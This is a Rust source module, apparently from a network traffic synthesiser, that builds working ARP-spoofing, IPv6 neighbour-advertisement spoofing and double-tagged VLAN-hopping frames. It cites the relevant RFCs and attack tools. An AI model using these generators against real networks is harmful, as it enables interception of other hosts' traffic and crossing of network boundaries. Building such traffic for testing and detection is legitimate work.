//! Below IP: neighbours that lie, and tags that lead into other networks.

use std::net::IpAddr;

use etherparse::{ArpEthIpv4Packet, ArpOperation, EtherType, Ethernet2Header, IcmpEchoHeader, Icmpv4Type, Icmpv6Type};

use super::super::SynthError;
use super::super::catalogue::{Entry, Family, Ip};
use super::super::packet::Transport;
use super::super::param::{Kind, Parameter};
use super::super::pool::Address;
use super::super::spec::Context;
use super::super::stream::{Generator, Made};
use super::packets::{Ends, packets};
use super::{Common, both};

const COMMON: Common = Common {
    family: Family::Link,
    unit: "packets",
    ip: Ip::Any,
    spoofs: false,
    two_sided: false,
    rate: 1.0,
    count: |_| 20,
};

const GATEWAY: Parameter = Parameter::of(
    "gateway",
    Kind::Address,
    "auto",
    "address that the attacker takes for its own; auto is the last host (254, or ffff) of the target's network",
);

pub(super) const ENTRIES: &[Entry] = &[
    Common { ip: Ip::Only4("IPv6 has no ARP; ndp-spoofing is the like of it"), ..COMMON }.entry(
        "arp-spoofing",
        "replies that nobody asked for: the gateway's address is at the attacker's MAC address",
        "arpspoof(8) -t; RFC 826; RFC 5227 section 1.2; MITRE ATT&CK T1557.002",
        &[
            GATEWAY,
            Parameter::of(
                "to",
                Kind::Choice(&["target", "broadcast"]),
                "target",
                "who is told: the target, or all hosts",
            ),
        ],
        arp,
    ),
    Common { ip: Ip::Only6("IPv4 has no neighbour discovery; arp-spoofing is the like of it"), ..COMMON }.entry(
        "ndp-spoofing",
        "neighbour advertisements that nobody asked for: the gateway's address is at the attacker's MAC address",
        "parasite6 of thc-ipv6; RFC 4861 section 4.4; RFC 3756 section 4.1.1",
        &[GATEWAY],
        ndp,
    ),
    COMMON.entry(
        "vlan-hopping",
        "echo requests with two VLAN tags: the first switch takes the outer one off, the second obeys the inner one",
        "yersinia(8) dot1q, attack 1; IEEE 802.1Q-2018 section 9.6",
        &[
            Parameter::count("outer", "VLAN", (0, 4_094), "1", "outer tag: the native VLAN of the trunk"),
            Parameter::count("inner", "VLAN", (0, 4_094), "20", "inner tag: the VLAN that is to be reached"),
            Parameter::of(
                "outer-type",
                Kind::Choice(&["8100", "88a8"]),
                "8100",
                "EtherType of the outer tag, hexadecimal",
            ),
        ],
        vlan,
    ),
];

/// The last host of the network around an address: 24 bits of IPv4, 112 of IPv6.
fn last_host(address: Address) -> IpAddr {
    match *address.bytes() {
        [a, b, c, _] => IpAddr::from([a, b, c, 254]),
        ref bytes => {
            let mut last = [0xff; 16];
            last[..14].copy_from_slice(&bytes[..14]);
            IpAddr::from(last)
        }
    }
}

fn octets(address: Address) -> [u8; 4] {
    let mut octets = [0; 4];
    octets.copy_from_slice(&address.bytes()[..4]);
    octets
}

fn arp(context: &Context<'_>) -> Result<Box<dyn Generator>, SynthError> {
    let [attacker, victim] = context.macs;
    let gateway = context.address("gateway", false, last_host(context.target(false)))?;
    let destination = if context.params.text("to") == "broadcast" { [0xff; 6] } else { victim };
    let targets = context.targets[0].clone();
    let header = Ethernet2Header { source: attacker, destination, ether_type: EtherType::ARP }.to_bytes();
    Ok(packets(move |unit, frame| {
        let reply = ArpEthIpv4Packet {
            operation: ArpOperation::REPLY,
            sender_mac: attacker,
            sender_ipv4: octets(gateway),
            target_mac: victim,
            target_ipv4: octets(targets.nth(unit.index)),
        };
        frame.data.clear();
        frame.data.extend_from_slice(&header);
        frame.data.extend_from_slice(&reply.to_bytes());
        Made::LAST
    }))
}

/// Type of a neighbour advertisement, and its flags: from a router, overrides what is known (RFC 4861 section 4.4).
const ADVERTISEMENT: u8 = 136;
const ROUTER_OVERRIDE: [u8; 4] = [0xa0, 0, 0, 0];
/// Only neighbours can send this hop limit (RFC 4861 section 7.1.2).
pub(super) const NEIGHBOUR: u8 = 255;

fn ndp(context: &Context<'_>) -> Result<Box<dyn Generator>, SynthError> {
    let gateway = context.address("gateway", true, last_host(context.target(true)))?;
    // The gateway's address, then the option Target Link-layer Address with the attacker's.
    let payload = [gateway.bytes(), &[2, 1], &context.macs[0]].concat();
    let kind = Icmpv6Type::Unknown { type_u8: ADVERTISEMENT, code_u8: 0, bytes5to8: ROUTER_OVERRIDE };
    let templates = both(context, |_| Transport::Icmp6(kind), &payload);
    let targets = context.targets[1].clone();
    Ok(packets(move |unit, frame| {
        let mut patch = templates[1].copy(&mut frame.data);
        patch.addresses(gateway, targets.nth(unit.index)).ttl(NEIGHBOUR).finish();
        Made::LAST
    }))
}

fn vlan(context: &Context<'_>) -> Result<Box<dyn Generator>, SynthError> {
    let params = &context.params;
    let (outer, inner) = (params.count("outer") as u16, params.count("inner") as u16);
    let kind: u16 = if params.text("outer-type") == "88a8" { 0x88a8 } else { 0x8100 };
    let header = IcmpEchoHeader { id: 1, seq: 0 };
    let transport = |v6| {
        if v6 {
            Transport::Icmp6(Icmpv6Type::EchoRequest(header))
        } else {
            Transport::Icmp4(Icmpv4Type::EchoRequest(header))
        }
    };
    let templates = both(context, transport, &[0x61; 56]);
    let ends = Ends::of(context);
    Ok(packets(move |unit, frame| {
        let [source, target] = ends.choose(unit);
        let mut patch = templates[usize::from(unit.v6)].copy(&mut frame.data);
        patch.addresses(source, target).ident(unit.index as u16).l4_16(6, unit.index as u16).finish();
        // Behind the MAC addresses: two tags, then the type that was there.
        let length = frame.data.len();
        frame.data.resize(length + 8, 0);
        frame.data.copy_within(12..length, 20);
        for (at, word) in [(12, kind), (14, outer), (16, 0x8100), (18, inner)] {
            frame.data[at..at + 2].copy_from_slice(&word.to_be_bytes());
        }
        Made::LAST
    }))
}
